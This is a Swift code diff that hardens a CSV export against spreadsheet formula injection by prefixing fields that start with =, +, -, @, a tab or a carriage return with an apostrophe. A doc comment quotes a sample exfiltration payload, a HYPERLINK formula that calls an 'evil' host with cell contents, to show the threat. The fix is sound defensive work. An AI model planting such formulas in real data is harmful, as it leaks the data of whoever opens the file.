@@ -32,10 +32,17 @@ public enum FailureReport {
         return try connection.copyOut(statement, body)
     }
 
-    /// One CSV line (RFC 4180): fields with commas, quotes or line breaks are quoted.
+    /// One CSV line (RFC 4180): fields with commas, quotes or line breaks are quoted, and a field a spreadsheet would
+    /// read as a formula (it begins with `=`, `+`, `-`, `@`, a tab or a carriage return) starts with `'` instead.
+    ///
+    /// Addresses and numbers come from other systems: a mobile number such as `=HYPERLINK("http://evil/?"&A2,"x")`
+    /// would otherwise run when the merchant opens the report. An E.164 number shows as `'+15551230001`.
     public static func csvLine(_ fields: [String?]) -> String {
         fields.map { field in
-            guard let field else { return "" }
+            guard var field else { return "" }
+            if let first = field.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) {
+                field = "'" + field
+            }
             guard field.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" }) else { return field }
             return "\"" + field.replacingOccurrences(of: "\"", with: "\"\"") + "\""
         }.joined(separator: ",") + "\r\n"
